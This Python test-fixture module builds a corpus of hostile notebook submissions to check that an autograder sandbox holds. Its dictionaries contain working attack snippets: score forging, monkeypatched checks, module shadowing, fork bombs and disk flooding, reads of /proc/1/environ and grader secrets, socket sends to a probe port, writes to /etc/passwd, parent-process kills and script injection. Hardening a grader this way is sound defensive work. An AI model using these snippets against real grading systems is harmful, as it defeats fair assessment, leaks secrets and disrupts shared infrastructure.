"""A hostile corpus: submissions that try to get points they have not earned, or to hurt the grader.

Built for any homework from its released and source notebooks: ``build(subs, released, source,
probe)`` writes one folder per student under ``subs`` and returns ``{student: Case}``.

Most cases are *stub-level*: the released notebook, functions unimplemented, plus code that
tries one trick. Where a trick would leak something (the network, the reference
implementation, the grader's environment, a file outside the sandbox), the case defines the
correct solution only if the leak worked ("reward if leaked"), so a score above 0 proves the
leak. Other cases are correct solutions with something nasty beside them: they must keep
full marks. ``probe`` names what the test set up: ``PORT`` (a listener the sandbox must not
reach), ``SOLUTIONS`` (the instructor's notebook), ``COURSE`` (the course folder),
``SECRET`` (an environment variable of the grader's), ``OUTSIDE`` (a file path the student
must not create).
"""
from __future__ import annotations

import copy
import json
import os
from dataclasses import dataclass

import nbformat
from autograder import bench as autograder_bench
from nbformat.v4 import new_code_cell

ZERO, FULL = "zero", "full"


@dataclass(frozen=True)
class Case:
    score: str                  # ZERO or FULL
    statuses: tuple             # statuses accepted for this case
    what: str                   # the class of attack


def _gid(cell):
    return (cell.get("metadata") or {}).get("nbgrader", {}).get("grade_id")


solved = autograder_bench.solved  # the released notebook with the solution cells filled in


def solution_code(released, source) -> str:
    nb = solved(released, source)
    return "\n\n".join(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))


def with_cell(nb, source: str, *, at_end: bool = False):
    """``nb`` with one more code cell of the student's, after the setup cell (or at the end)."""
    nb = copy.deepcopy(nb)
    k = len(nb.cells) if at_end else next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells.insert(k, new_code_cell(source))
    return nb


def reward(attempt: str, solution: str) -> str:
    """Code that defines the correct solution only if ``attempt`` runs without an exception."""
    body = "\n".join("    " + line for line in attempt.strip().splitlines())
    return f"try:\n{body}\n    _LEAKED = True\nexcept BaseException:\n    _LEAKED = False\nif _LEAKED:\n    exec({solution!r})\n"


# ------------------------------------------------------------------ the tricks

FORGING = {
    "displayhook_ok": "import sys\nsys.displayhook('ok')\nget_ipython().displayhook('10 points')",
    "print_passed": "import json\nprint('All tests passed: 100/100')\nprint(json.dumps({'score': 100}))",
    "forge_reply_frame": ("import os, json, struct\nh = json.dumps({'op': 'return', 'value': 1.0, 'blobs': []}).encode()\n"
                          "for fd in range(3, 64):\n    try:\n        os.write(fd, struct.pack('<I', len(h)) + h)\n"
                          "    except OSError:\n        pass"),
    "garbage_on_fds": "import os\nfor fd in range(0, 64):\n    try:\n        os.write(fd, b'\\xff' * 64)\n    except OSError:\n        pass",
    "close_protocol_fds": "import os\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n    except OSError:\n        pass",
    "html_script_output": ("from IPython.display import display, HTML\n"
                           "display(HTML('<script>document.title=\"pwned\"</script><b>10/10</b>'))\n"
                           "print('<script>alert(1)</script>')"),
    "fake_nbgrader_metadata_output": ("from IPython.display import display\n"
                                      "display({'text/plain': '1.0', 'application/json': {'score': 1}}, raw=True)"),
}

FUNCTIONS_THAT_LIE = {
    "returns_always_equal": ("class AlwaysEqual:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
                             "    def __array__(self, *a, **k):\n        import numpy as np\n        return np.zeros(3)\n"
                             "_AE = AlwaysEqual()\n"),
    "ndarray_subclass_eq": ("import numpy as np\nclass Sneaky(np.ndarray):\n    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
                            "_AE = np.zeros(3).view(Sneaky)\n"),
    "object_dtype_array": "import numpy as np\n_AE = np.array([object()] * 3, dtype=object)\n",
    "dict_subclass": "class D(dict):\n    pass\n_AE = D(score=100)\n",
    "nan_everywhere": "_AE = float('nan')\n",
    "huge_return": "import numpy as np\n_AE = np.zeros((20000, 20000), dtype=np.uint8)\n",
}

TRACING = {
    "settrace_everything": ("import sys\ndef _t(frame, event, arg):\n    frame.f_locals.update({'mismatch': 0, 'bad': False})\n"
                            "    return _t\nsys.settrace(_t)\nimport threading\nthreading.settrace(_t)"),
    "inspect_callers": ("import inspect\ndef _steal():\n    for f in inspect.stack():\n"
                        "        for k, v in f.frame.f_locals.items():\n            if k.startswith('expected'):\n"
                        "                return v\n"),
    "gc_scan_for_answers": "import gc\n_objs = [o for o in gc.get_objects() if type(o).__name__ == 'ndarray']",
    "profile_hook": "import sys\nsys.setprofile(lambda *a: None)",
}

SHADOWING_CELLS = {
    "syspath_dot_first": "import sys\nsys.path.insert(0, '.')\nsys.path.insert(0, '')",
    "coursekit_path_insert": "import coursekit\ncoursekit.__path__.insert(0, '.')",
    "sys_modules_fake_checks": ("import sys, types\nfake = types.ModuleType('coursekit.checks')\n"
                                "fake.assert_close = lambda *a, **k: None\nsys.modules['coursekit.checks'] = fake"),
    "meta_path_hook": ("import sys, importlib.abc\nclass F(importlib.abc.MetaPathFinder):\n"
                       "    def find_spec(self, name, path, target=None):\n        return None\nsys.meta_path.insert(0, F())"),
    "builtins_patched": "import builtins\nbuiltins.AssertionError = type('Never', (Exception,), {})\nbuiltins.isinstance = lambda *a: True",
    "numpy_patched": ("import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                      "np.abs = lambda x: 0 * x"),
    "ipython_transformers": ("ip = get_ipython()\nip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
                             "ip.ast_transformers.append(__import__('ast').NodeTransformer())"),
}

LEAKS = {
    "import_reference": "import coursekit.layers\nfrom coursekit.layers import conv2d_forward\nconv2d_forward",
    "read_reference_source": ("import coursekit, pathlib\nsrc = pathlib.Path(coursekit.__path__[0], 'layers', 'conv.py').read_text()\n"
                              "assert 'def conv2d_forward' in src"),
    "read_reference_pyc": ("import coursekit, pathlib, marshal\nd = pathlib.Path(coursekit.__path__[0], 'layers', '__pycache__')\n"
                           "assert [p for p in d.iterdir() if p.name.startswith('conv.')]"),
    "import_torch": "import torch\ntorch.zeros(1)",
    "network_loopback": "import socket\ns = socket.create_connection(('127.0.0.1', {PORT}), timeout=2)\ns.sendall(b'leak')",
    "network_dns": "import socket\nsocket.gethostbyname('pypi.org')",
    "read_solutions": "open({SOLUTIONS!r}).read()",
    "read_course_gradebook": "open({COURSE!r} + '/gradebook.db', 'rb').read(16)",
    "list_course": "import os\nassert 'gradebook.db' in os.listdir({COURSE!r})",
    "grader_environment": ("import os\nassert os.environ.get({SECRET_NAME!r}) or any('postgres' in v for v in os.environ.values())"),
    "proc_parent_environ": "open('/proc/1/environ', 'rb').read()\nopen('/proc/' + str(__import__('os').getppid()) + '/environ').read()\n"
                           "assert {SECRET_VALUE!r}.encode() in open('/proc/1/environ', 'rb').read()",
    "seed_replay": "import os\nos.environ['COURSEKIT_SEED'] = '1'\nassert False, 'a seed set here reaches nobody'",
}

RESOURCES = {
    "fork_bomb": ("import os\nkids = 0\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
                  "            import time\n            time.sleep(600)\n            os._exit(0)\n        kids += 1\n"
                  "    except OSError:\n        break"),
    "memory_in_children": ("import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        try:\n"
                           "            x = bytearray(400 * 1024 ** 2)\n            time.sleep(60)\n        finally:\n"
                           "            os._exit(0)\ntime.sleep(3)"),
    "memory_in_self": "x = bytearray(3 * 1024 ** 3)",
    "fill_tmp": "with open('/tmp/big', 'wb') as f:\n    for _ in range(400):\n        f.write(b'x' * 1024 ** 2)",
    "fill_dev_shm": "with open('/dev/shm/big', 'wb') as f:\n    for _ in range(3000):\n        f.write(b'x' * 1024 ** 2)",
    "fill_home": "import os\nwith open(os.path.expanduser('~/big'), 'wb') as f:\n    for _ in range(400):\n        f.write(b'x' * 1024 ** 2)",
    "thread_bomb": ("import threading, time\nfor _ in range(5000):\n    try:\n"
                    "        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n    except RuntimeError:\n        break"),
    "output_flood": "import sys\nfor _ in range(200000):\n    print('spam ' * 40)",
    "orphan_daemon": ("import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600)'],"
                      " start_new_session=True)"),
    "infinite_loop_top_level": "while True:\n    pass",
}

# Writes meant for the grader's files: a folder under /tmp on the host is only the sandbox's own
# private /tmp, so a write may "succeed" there; the test checks the host's files instead.
ESCAPES = {
    "write_outside": ("for path in ({OUTSIDE!r}, {COURSE!r} + '/results/hw_demo/s_write_outside.json', '/etc/passwd'):\n"
                      "    try:\n        open(path, 'w').write('{{\"score\": 100}}')\n    except OSError:\n        pass"),
}


def _stub(released):
    return copy.deepcopy(released)


def _stub_cases(released, solution, probe) -> dict:
    """Every stub-level notebook: name -> (notebook, class of attack)."""
    out = {}
    for group, tricks in (("forging", FORGING), ("tracing", TRACING), ("shadowing", SHADOWING_CELLS),
                          ("resources", RESOURCES)):
        for name, code in tricks.items():
            out[name] = (with_cell(_stub(released), code), group)
    for name, code in FUNCTIONS_THAT_LIE.items():
        out[name] = (with_cell(_stub(released), code + _redefine_all(released, "_AE"), at_end=True), "lying values")
    for name, code in ESCAPES.items():
        out[name] = (with_cell(_stub(released), code.format(**probe)), "leaks")
    for name, attempt in LEAKS.items():
        out[name] = (with_cell(_stub(released), reward(attempt.format(**probe), solution), at_end=True), "leaks")
    out["timeout_in_function"] = (with_cell(_stub(released), _redefine_all(released, None, body="while True: pass"),
                                            at_end=True), "resources")
    out["exec_fake_runner"] = (with_cell(_stub(released), FAKE_RUNNER), "kernel replacement")
    out["sys_exit_at_top"] = (with_cell(_stub(released), "import sys\nsys.exit(0)"), "kernel replacement")
    out["os_exit_at_top"] = (with_cell(_stub(released), "import os\nos._exit(0)"), "kernel replacement")
    out["kill_parent"] = (with_cell(_stub(released), "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                                     "os.kill(1, signal.SIGKILL)"), "kernel replacement")
    out["hidden_marker_in_cell"] = (with_cell(_stub(released), "# ### BEGIN HIDDEN TESTS\nx = 1\n# ### END SOLUTION"),
                                    "feedback poisoning")
    out["exception_with_html"] = (with_cell(_stub(released), _redefine_all(
        released, None, body="raise ValueError('<img src=x onerror=alert(1)>')"), at_end=True), "feedback poisoning")
    return out


def _function_names(released) -> list:
    """``(name, is_class)`` of what the solution cells define."""
    out = []
    for cell in released.cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            for line in cell.source.splitlines():
                if line.startswith("def ") or line.startswith("class "):
                    out.append((line.split()[1].split("(")[0].split(":")[0], line.startswith("class ")))
    return out


def _redefine_all(released, value, *, body: str | None = None) -> str:
    """Code that redefines every solution function to return ``value`` (or to run ``body``)."""
    lines = []
    for name, is_class in _function_names(released):
        stmt = body or f"return {value}"
        if is_class:
            lines.append(f"class {name}:\n    def __init__(self, *a, **k):\n        pass\n"
                         f"    def __getattr__(self, attr):\n        def method(*a, **k):\n            {stmt}\n"
                         "        return method")
        else:
            lines.append(f"def {name}(*args, **kwargs):\n    {stmt}")
    return "\n\n".join(lines) + "\n"


FAKE_RUNNER = r'''
import os, sys, json, struct
code = r"""
import os, sys, json, struct
rd, wr = os.fdopen(0, 'rb'), os.fdopen(1, 'wb')
def send(m):
    h = json.dumps(m).encode(); wr.write(struct.pack('<I', len(h)) + h); wr.flush()
while True:
    n = rd.read(4)
    if len(n) < 4: break
    (k,) = struct.unpack('<I', n); h = json.loads(rd.read(k)); [rd.read(s) for s in h.get('blobs', [])]
    if h.get('op') == 'setup':
        send({'op': 'ready', 'blobs': []})
    else:
        send({'op': 'return', 'value': 1, 'writeback': {'D': []}, 'blobs': []})
"""
os.execv(sys.executable, [sys.executable, '-c', code])
'''


def _correct_cases(good, released) -> dict:
    """Correct solutions with something nasty beside them: each must keep full marks."""
    out = {"correct": (good, "baseline")}
    out["correct_then_infinite_loop"] = (with_cell(good, "while True:\n    pass", at_end=True), "resources")
    out["correct_then_os_exit"] = (with_cell(good, "import os\nos._exit(3)", at_end=True), "kernel replacement")
    out["correct_then_fork_bomb"] = (with_cell(good, RESOURCES["fork_bomb"], at_end=True), "resources")
    out["correct_then_output_flood"] = (with_cell(good, RESOURCES["output_flood"], at_end=True), "resources")
    out["correct_with_warnings"] = (with_cell(good, "import warnings\nwarnings.warn('careful')\n"
                                                   "import numpy as np\nnp.log(np.zeros(2))", at_end=True), "warnings")
    lost = copy.deepcopy(good)
    for cell in lost.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.metadata = {}
    out["correct_metadata_lost"] = (lost, "repairs")
    return out


def _file_cases(subs, released, good, probe) -> dict:
    """Cases made of files beside (or instead of) the notebook: links, shadowing modules, bad JSON."""
    hw = probe["HW"]
    made = {}

    def folder(name, nb=None):
        d = subs / name
        d.mkdir(parents=True)
        if nb is not None:
            nbformat.write(nb, d / f"{hw}.ipynb")
        return d

    d = folder("link_to_solutions", _stub(released))
    os.symlink(probe["SOLUTIONS"], d / "answers.ipynb")
    os.symlink("/proc/self/environ", d / "environ.txt")
    os.symlink(probe["COURSE"], d / "course")
    made["link_to_solutions"] = (ZERO, ("ok",), "links")
    d = folder("notebook_is_a_link")
    os.symlink(probe["SOLUTIONS"], d / f"{hw}.ipynb")
    made["notebook_is_a_link"] = (ZERO, ("missing",), "links")
    d = folder("hard_link", _stub(released))
    os.link(probe["HARDLINK_SOURCE"], d / "copy_of_course_file.txt")
    made["hard_link"] = (ZERO, ("ok",), "links")
    d = folder("shadow_coursekit_package", _stub(released))
    (d / "coursekit").mkdir()
    (d / "coursekit" / "__init__.py").write_text("")
    (d / "coursekit" / "checks.py").write_text("def assert_close(*a, **k):\n    pass\n")
    (d / "coursekit" / "homework.py").write_text("def student(name):\n    return lambda *a, **k: None\n")
    made["shadow_coursekit_package"] = (ZERO, ("ok",), "shadowing")
    d = folder("shadow_runner_and_numpy", _stub(released))
    (d / "numpy.py").write_text("raise SystemExit('shadowed numpy')\n")
    (d / "ipykernel_launcher.py").write_text("import os\nos._exit(0)\n")
    (d / "autograder").mkdir()
    (d / "autograder" / "__init__.py").write_text("")
    (d / "autograder" / "runner.py").write_text("print('fake runner')\n")
    (d / "sitecustomize.py").write_text("import os\nos._exit(0)\n")
    made["shadow_runner_and_numpy"] = (ZERO, ("ok",), "shadowing")
    for name, text in MALFORMED.items():
        d = folder(name)
        (d / f"{hw}.ipynb").write_bytes(text(released) if callable(text) else text)
        made[name] = (ZERO, ("malformed",), "malformed JSON")
    self_graded = with_cell(_stub(released), "x = 1", at_end=True)
    self_graded.cells[-1].metadata = {"nbgrader": {"grade": True, "grade_id": "my_bonus", "points": 100,
                                                   "solution": False, "locked": False, "schema_version": 3}}
    folder("self_graded_cell", self_graded)
    made["self_graded_cell"] = (ZERO, ("tampered",), "score forging")
    return made


def _bad_source_list(released):
    data = json.loads(nbformat.writes(released))
    data["cells"][1]["source"] = ["import numpy as np\n", 42]
    return json.dumps(data).encode()


def _bad_metadata(released):
    data = json.loads(nbformat.writes(released))
    data["cells"][1]["metadata"] = ["not", "a", "dict"]
    return json.dumps(data).encode()


MALFORMED = {
    "json_truncated": b'{"cells": [',
    "json_not_object": b"[1, 2, 3]",
    "json_cells_not_list": b'{"cells": 7, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "json_source_number": _bad_source_list,
    "json_metadata_list": _bad_metadata,
    "json_invalid_utf8": b'{"cells": ["\xff\xfe"]}',
    "json_empty": b"",
}


def build(subs, released, source, probe) -> dict:
    """Write every case under ``subs``; return ``{student: Case}``."""
    subs.mkdir(parents=True, exist_ok=True)
    solution = solution_code(released, source)
    good = solved(released, source)
    cases = {}
    for name, (nb, what) in _stub_cases(released, solution, probe).items():
        (subs / f"s_{name}").mkdir()
        nbformat.write(nb, subs / f"s_{name}" / f"{probe['HW']}.ipynb")
        cases[f"s_{name}"] = Case(ZERO, ("ok", "timeout", "crashed", "tampered"), what)
    for name, (nb, what) in _correct_cases(good, released).items():
        (subs / f"c_{name}").mkdir()
        nbformat.write(nb, subs / f"c_{name}" / f"{probe['HW']}.ipynb")
        cases[f"c_{name}"] = Case(FULL, ("ok", "timeout", "crashed", "tampered"), what)
    for name, (score, statuses, what) in _file_cases(subs, released, good, probe).items():
        cases[name] = Case(score, statuses, what)
    return cases
